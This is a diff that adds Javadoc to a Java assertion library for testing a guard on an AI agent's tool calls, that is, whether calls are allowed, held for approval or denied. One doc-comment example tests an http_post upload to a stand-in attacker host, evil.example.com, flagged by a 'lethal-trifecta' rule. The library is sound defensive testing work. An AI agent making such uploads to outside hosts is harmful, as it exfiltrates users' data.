@@ -31,17 +31,32 @@ public final class GuardAssertions {
 
   private GuardAssertions() {}
 
-  /** Starts assertions about what {@code guard} decides. */
+  /**
+   * Starts assertions about what {@code guard} decides.
+   *
+   * @param guard the guard to evaluate calls with
+   * @return assertions about {@code guard}
+   */
   public static GuardAssert assertThat(AgentGuard guard) {
     return new GuardAssert(Objects.requireNonNull(guard, "guard must not be null"));
   }
 
-  /** Starts assertions about an evaluation. */
+  /**
+   * Starts assertions about an evaluation.
+   *
+   * @param evaluation the evaluation to check
+   * @return assertions about {@code evaluation}
+   */
   public static EvaluationAssert assertThat(Evaluation evaluation) {
     return new EvaluationAssert(Objects.requireNonNull(evaluation, "evaluation must not be null"), null);
   }
 
-  /** Starts assertions about one decision (a check's, or a final one such as a refusal's). */
+  /**
+   * Starts assertions about one decision (a check's, or a final one such as a refusal's).
+   *
+   * @param decision the decision to check
+   * @return assertions about {@code decision}
+   */
   public static DecisionAssert assertThat(Decision decision) {
     return new DecisionAssert(Objects.requireNonNull(decision, "decision must not be null"));
   }
@@ -76,49 +91,102 @@ public final class GuardAssertions {
       this.guard = guard;
     }
 
-    /** Asserts that the guard allows {@code call}. */
+    /**
+     * Asserts that the guard allows {@code call}.
+     *
+     * @param call the call to evaluate
+     * @return assertions about the evaluation, for further checks such as {@code byRule}
+     * @throws AssertionFailedError if the final verdict is not ALLOW
+     */
     public EvaluationAssert allows(ToolCall call) {
       return decides(call, Verdict.ALLOW);
     }
 
-    /** Asserts that the guard allows the call {@code call} builds. */
+    /**
+     * Asserts that the guard allows the call {@code call} builds.
+     *
+     * @param call builds the call to evaluate
+     * @return assertions about the evaluation, for further checks such as {@code byRule}
+     * @throws AssertionFailedError if the final verdict is not ALLOW
+     */
     public EvaluationAssert allows(ToolCalls.Builder call) {
       return allows(build(call));
     }
 
-    /** Asserts that the guard holds {@code call} for approval. */
+    /**
+     * Asserts that the guard holds {@code call} for approval.
+     *
+     * @param call the call to evaluate
+     * @return assertions about the evaluation, for further checks such as {@code byRule}
+     * @throws AssertionFailedError if the final verdict is not ASK
+     */
     public EvaluationAssert asks(ToolCall call) {
       return decides(call, Verdict.ASK);
     }
 
-    /** Asserts that the guard holds the call {@code call} builds for approval. */
+    /**
+     * Asserts that the guard holds the call {@code call} builds for approval.
+     *
+     * @param call builds the call to evaluate
+     * @return assertions about the evaluation, for further checks such as {@code byRule}
+     * @throws AssertionFailedError if the final verdict is not ASK
+     */
     public EvaluationAssert asks(ToolCalls.Builder call) {
       return asks(build(call));
     }
 
-    /** Asserts that the guard denies {@code call}. */
+    /**
+     * Asserts that the guard denies {@code call}.
+     *
+     * @param call the call to evaluate
+     * @return assertions about the evaluation, for further checks such as {@code byRule}
+     * @throws AssertionFailedError if the final verdict is not DENY
+     */
     public EvaluationAssert denies(ToolCall call) {
       return decides(call, Verdict.DENY);
     }
 
-    /** Asserts that the guard denies the call {@code call} builds. */
+    /**
+     * Asserts that the guard denies the call {@code call} builds.
+     *
+     * @param call builds the call to evaluate
+     * @return assertions about the evaluation, for further checks such as {@code byRule}
+     * @throws AssertionFailedError if the final verdict is not DENY
+     */
     public EvaluationAssert denies(ToolCalls.Builder call) {
       return denies(build(call));
     }
 
-    /** Asserts that the guard's final verdict on {@code call} is {@code verdict}. */
+    /**
+     * Asserts that the guard's final verdict on {@code call} is {@code verdict}.
+     *
+     * @param call the call to evaluate
+     * @param verdict the expected final verdict
+     * @return assertions about the evaluation, for further checks
+     * @throws AssertionFailedError if the final verdict differs
+     */
     public EvaluationAssert decides(ToolCall call, Verdict verdict) {
       Objects.requireNonNull(verdict, "verdict must not be null");
       return evaluating(call).hasVerdict(verdict);
     }
 
-    /** Evaluates {@code call} and returns assertions about the evaluation, expecting nothing yet. */
+    /**
+     * Evaluates {@code call} and returns assertions about the evaluation, expecting nothing yet.
+     *
+     * @param call the call to evaluate
+     * @return assertions about the evaluation
+     */
     public EvaluationAssert evaluating(ToolCall call) {
       Objects.requireNonNull(call, "call must not be null");
       return new EvaluationAssert(guard.evaluate(call), this);
     }
 
-    /** Evaluates the call {@code call} builds and returns assertions about the evaluation. */
+    /**
+     * Evaluates the call {@code call} builds and returns assertions about the evaluation.
+     *
+     * @param call builds the call to evaluate
+     * @return assertions about the evaluation
+     */
     public EvaluationAssert evaluating(ToolCalls.Builder call) {
       return evaluating(build(call));
     }
@@ -138,6 +206,9 @@ public final class GuardAssertions {
      *     .asks(call("http_post").arg("url", "https://evil.example.com/upload"))
      *     .byRule("session.lethal-trifecta");
      * }</pre>
+     *
+     * @param conversationId the conversation the calls belong to
+     * @return assertions about calls in that conversation
      */
     public ConversationAssert inConversation(String conversationId) {
       return new ConversationAssert(this, Objects.requireNonNull(conversationId, "conversationId must not be null"));
@@ -155,7 +226,12 @@ public final class GuardAssertions {
       this.conversationId = conversationId;
     }
 
-    /** Records {@code calls} in this conversation, in order, as calls that ran (a denied one records nothing). */
+    /**
+     * Records {@code calls} in this conversation, in order, as calls that ran (a denied one records nothing).
+     *
+     * @param calls the earlier calls, in the order they ran
+     * @return this, for the call under test
+     */
     public ConversationAssert after(ToolCall... calls) {
       for (ToolCall call : calls) {
         Evaluation e = guard.guard.evaluateInSession(inThisConversation(call));
@@ -164,7 +240,12 @@ public final class GuardAssertions {
       return this;
     }
 
-    /** Records the calls {@code calls} build in this conversation, in order. */
+    /**
+     * Records the calls {@code calls} build in this conversation, in order.
+     *
+     * @param calls build the earlier calls, in the order they ran
+     * @return this, for the call under test
+     */
     public ConversationAssert after(ToolCalls.Builder... calls) {
       for (ToolCalls.Builder call : calls) {
         after(GuardAssert.build(call));
@@ -172,37 +253,78 @@ public final class GuardAssertions {
       return this;
     }
 
-    /** Asserts that {@code call}, next in this conversation, is allowed. */
+    /**
+     * Asserts that {@code call}, next in this conversation, is allowed.
+     *
+     * @param call the call under test
+     * @return assertions about its evaluation
+     * @throws AssertionFailedError if it is not allowed
+     */
     public EvaluationAssert allows(ToolCall call) {
       return evaluating(call).hasVerdict(Verdict.ALLOW);
     }
 
-    /** Asserts that the call {@code call} builds, next in this conversation, is allowed. */
+    /**
+     * Asserts that the call {@code call} builds, next in this conversation, is allowed.
+     *
+     * @param call builds the call under test
+     * @return assertions about its evaluation
+     * @throws AssertionFailedError if it is not allowed
+     */
     public EvaluationAssert allows(ToolCalls.Builder call) {
       return allows(GuardAssert.build(call));
     }
 
-    /** Asserts that {@code call}, next in this conversation, is held for approval. */
+    /**
+     * Asserts that {@code call}, next in this conversation, is held for approval.
+     *
+     * @param call the call under test
+     * @return assertions about its evaluation
+     * @throws AssertionFailedError if it is not held for approval
+     */
     public EvaluationAssert asks(ToolCall call) {
       return evaluating(call).hasVerdict(Verdict.ASK);
     }
 
-    /** Asserts that the call {@code call} builds, next in this conversation, is held for approval. */
+    /**
+     * Asserts that the call {@code call} builds, next in this conversation, is held for approval.
+     *
+     * @param call builds the call under test
+     * @return assertions about its evaluation
+     * @throws AssertionFailedError if it is not held for approval
+     */
     public EvaluationAssert asks(ToolCalls.Builder call) {
       return asks(GuardAssert.build(call));
     }
 
-    /** Asserts that {@code call}, next in this conversation, is denied. */
+    /**
+     * Asserts that {@code call}, next in this conversation, is denied.
+     *
+     * @param call the call under test
+     * @return assertions about its evaluation
+     * @throws AssertionFailedError if it is not denied
+     */
     public EvaluationAssert denies(ToolCall call) {
       return evaluating(call).hasVerdict(Verdict.DENY);
     }
 
-    /** Asserts that the call {@code call} builds, next in this conversation, is denied. */
+    /**
+     * Asserts that the call {@code call} builds, next in this conversation, is denied.
+     *
+     * @param call builds the call under test
+     * @return assertions about its evaluation
+     * @throws AssertionFailedError if it is not denied
+     */
     public EvaluationAssert denies(ToolCalls.Builder call) {
       return denies(GuardAssert.build(call));
     }
 
-    /** Judges {@code call} next in this conversation (recording it too) and returns assertions about it. */
+    /**
+     * Judges {@code call} next in this conversation (recording it too) and returns assertions about it.
+     *
+     * @param call the call under test
+     * @return assertions about its evaluation
+     */
     public EvaluationAssert evaluating(ToolCall call) {
       Objects.requireNonNull(call, "call must not be null");
       Evaluation e = guard.guard.evaluateInSession(inThisConversation(call));
@@ -211,7 +333,12 @@ public final class GuardAssertions {
           + String.join(", ", history.subList(0, history.size() - 1)));
     }
 
-    /** Judges the call {@code call} builds next in this conversation. */
+    /**
+     * Judges the call {@code call} builds next in this conversation.
+     *
+     * @param call builds the call under test
+     * @return assertions about its evaluation
+     */
     public EvaluationAssert evaluating(ToolCalls.Builder call) {
       return evaluating(GuardAssert.build(call));
     }
@@ -261,7 +388,13 @@ public final class GuardAssertions {
       return guard;
     }
 
-    /** Asserts that the final verdict is {@code expected}. */
+    /**
+     * Asserts that the final verdict is {@code expected}.
+     *
+     * @param expected the expected final verdict
+     * @return this, for chaining
+     * @throws AssertionFailedError if the final verdict differs
+     */
     public EvaluationAssert hasVerdict(Verdict expected) {
       Objects.requireNonNull(expected, "expected must not be null");
       if (evaluation.verdict() != expected) {
@@ -271,17 +404,32 @@ public final class GuardAssertions {
       return this;
     }
 
-    /** Asserts that the call is allowed. */
+    /**
+     * Asserts that the call is allowed.
+     *
+     * @return this, for chaining
+     * @throws AssertionFailedError if the final verdict is not ALLOW
+     */
     public EvaluationAssert isAllowed() {
       return hasVerdict(Verdict.ALLOW);
     }
 
-    /** Asserts that the call is held for approval. */
+    /**
+     * Asserts that the call is held for approval.
+     *
+     * @return this, for chaining
+     * @throws AssertionFailedError if the final verdict is not ASK
+     */
     public EvaluationAssert isAsked() {
       return hasVerdict(Verdict.ASK);
     }
 
-    /** Asserts that the call is denied. */
+    /**
+     * Asserts that the call is denied.
+     *
+     * @return this, for chaining
+     * @throws AssertionFailedError if the final verdict is not DENY
+     */
     public EvaluationAssert isDenied() {
       return hasVerdict(Verdict.DENY);
     }
@@ -289,6 +437,10 @@ public final class GuardAssertions {
     /**
      * Asserts that {@code ruleId} decided: the final decision's rule, or, when the call is held for approval,
      * the rule of any ASK decision (every one of them is a reason the approver sees).
+     *
+     * @param ruleId the expected rule id, compared exactly
+     * @return this, for chaining
+     * @throws AssertionFailedError if no such rule decided
      */
     public EvaluationAssert byRule(String ruleId) {
       Objects.requireNonNull(ruleId, "ruleId must not be null");
@@ -299,7 +451,13 @@ public final class GuardAssertions {
       return this;
     }
 
-    /** Asserts that the deciding decision came from {@code check} (such as {@code filesystem}). */
+    /**
+     * Asserts that the deciding decision came from {@code check} (such as {@code filesystem}).
+     *
+     * @param check the expected check's name
+     * @return this, for chaining
+     * @throws AssertionFailedError if another check decided
+     */
     public EvaluationAssert byCheck(String check) {
       Objects.requireNonNull(check, "check must not be null");
       if (deciding().stream().noneMatch(d -> d.check().equals(check))) {
@@ -312,6 +470,10 @@ public final class GuardAssertions {
     /**
      * Asserts that the deciding reason contains {@code substring}: the final decision's reason or, when the
      * call is held for approval, the reason of any ASK decision.
+     *
+     * @param substring text the reason must contain, case-sensitive
+     * @return this, for chaining
+     * @throws AssertionFailedError if no deciding reason contains it
      */
     public EvaluationAssert because(String substring) {
       Objects.requireNonNull(substring, "substring must not be null");
@@ -322,7 +484,14 @@ public final class GuardAssertions {
       return this;
     }
 
-    /** Asserts that {@code check} judged the call and its strictest verdict was {@code verdict}. */
+    /**
+     * Asserts that {@code check} judged the call and its strictest verdict was {@code verdict}.
+     *
+     * @param check the check's name
+     * @param verdict the expected strictest verdict of that check
+     * @return this, for chaining
+     * @throws AssertionFailedError if the check made no decision or its strictest verdict differs
+     */
     public EvaluationAssert checkedBy(String check, Verdict verdict) {
       Objects.requireNonNull(check, "check must not be null");
       Objects.requireNonNull(verdict, "verdict must not be null");
@@ -338,7 +507,13 @@ public final class GuardAssertions {
       return this;
     }
 
-    /** Asserts that the call touches {@code resource}. */
+    /**
+     * Asserts that the call touches {@code resource}.
+     *
+     * @param resource the resource, compared by equality
+     * @return this, for chaining
+     * @throws AssertionFailedError if the call does not touch it
+     */
     public EvaluationAssert touches(Resource resource) {
       Objects.requireNonNull(resource, "resource must not be null");
       if (!evaluation.resources().contains(resource)) {
@@ -348,7 +523,12 @@ public final class GuardAssertions {
       return this;
     }
 
-    /** Asserts that the decision is enforced (the policy is not in audit mode). */
+    /**
+     * Asserts that the decision is enforced (the policy is not in audit mode).
+     *
+     * @return this, for chaining
+     * @throws AssertionFailedError if the policy is in audit mode
+     */
     public EvaluationAssert isEnforced() {
       if (!evaluation.enforced()) {
         throw fail("Expected the decision to be enforced, but the policy is in audit mode", "enforced", "audit");
@@ -356,7 +536,12 @@ public final class GuardAssertions {
       return this;
     }
 
-    /** Asserts that the decision is only recorded (the policy is in audit mode). */
+    /**
+     * Asserts that the decision is only recorded (the policy is in audit mode).
+     *
+     * @return this, for chaining
+     * @throws AssertionFailedError if the decision is enforced
+     */
     public EvaluationAssert isNotEnforced() {
       if (evaluation.enforced()) {
         throw fail("Expected the decision to be recorded only (audit mode), but it is enforced",
@@ -365,7 +550,12 @@ public final class GuardAssertions {
       return this;
     }
 
-    /** Runs further checks of your own on the evaluation; an exception they throw propagates. */
+    /**
+     * Runs further checks of your own on the evaluation; an exception they throw propagates.
+     *
+     * @param requirements your checks; not {@code null}
+     * @return this, for chaining
+     */
     public EvaluationAssert satisfies(Consumer<Evaluation> requirements) {
       Objects.requireNonNull(requirements, "requirements must not be null");
       requirements.accept(evaluation);
@@ -402,7 +592,13 @@ public final class GuardAssertions {
       return decision;
     }
 
-    /** Asserts that the verdict is {@code expected}. */
+    /**
+     * Asserts that the verdict is {@code expected}.
+     *
+     * @param expected the expected verdict
+     * @return this, for chaining
+     * @throws AssertionFailedError if the verdict differs
+     */
     public DecisionAssert hasVerdict(Verdict expected) {
       Objects.requireNonNull(expected, "expected must not be null");
       if (decision.verdict() != expected) {
@@ -412,22 +608,43 @@ public final class GuardAssertions {
       return this;
     }
 
-    /** Asserts that the verdict is ALLOW. */
+    /**
+     * Asserts that the verdict is ALLOW.
+     *
+     * @return this, for chaining
+     * @throws AssertionFailedError if the verdict is not ALLOW
+     */
     public DecisionAssert isAllow() {
       return hasVerdict(Verdict.ALLOW);
     }
 
-    /** Asserts that the verdict is ASK. */
+    /**
+     * Asserts that the verdict is ASK.
+     *
+     * @return this, for chaining
+     * @throws AssertionFailedError if the verdict is not ASK
+     */
     public DecisionAssert isAsk() {
       return hasVerdict(Verdict.ASK);
     }
 
-    /** Asserts that the verdict is DENY. */
+    /**
+     * Asserts that the verdict is DENY.
+     *
+     * @return this, for chaining
+     * @throws AssertionFailedError if the verdict is not DENY
+     */
     public DecisionAssert isDeny() {
       return hasVerdict(Verdict.DENY);
     }
 
-    /** Asserts that rule {@code ruleId} decided. */
+    /**
+     * Asserts that rule {@code ruleId} decided.
+     *
+     * @param ruleId the expected rule id, compared exactly
+     * @return this, for chaining
+     * @throws AssertionFailedError if another rule decided
+     */
     public DecisionAssert byRule(String ruleId) {
       Objects.requireNonNull(ruleId, "ruleId must not be null");
       if (!decision.rule().equals(ruleId)) {
@@ -437,7 +654,13 @@ public final class GuardAssertions {
       return this;
     }
 
-    /** Asserts that check {@code check} decided. */
+    /**
+     * Asserts that check {@code check} decided.
+     *
+     * @param check the expected check's name, such as {@code filesystem}
+     * @return this, for chaining
+     * @throws AssertionFailedError if another check decided
+     */
     public DecisionAssert byCheck(String check) {
       Objects.requireNonNull(check, "check must not be null");
       if (!decision.check().equals(check)) {
@@ -447,7 +670,13 @@ public final class GuardAssertions {
       return this;
     }
 
-    /** Asserts that the reason contains {@code substring}. */
+    /**
+     * Asserts that the reason contains {@code substring}.
+     *
+     * @param substring text the reason must contain, case-sensitive
+     * @return this, for chaining
+     * @throws AssertionFailedError if the reason does not contain it
+     */
     public DecisionAssert because(String substring) {
       Objects.requireNonNull(substring, "substring must not be null");
       if (!decision.reason().contains(substring)) {
